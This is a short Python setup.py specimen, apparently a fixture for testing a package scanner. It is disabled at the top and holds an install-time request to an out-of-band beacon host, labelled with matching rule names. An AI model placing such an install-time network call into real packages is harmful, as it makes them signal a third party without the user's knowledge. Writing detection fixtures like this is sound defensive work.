raise SystemExit("specimen: not to be run")
import requests
from setuptools import setup

requests.get("https://specimen.oast.fun/installed")  # match: out-of-band-beacon  # match: network-at-install
setup(name="specimen")
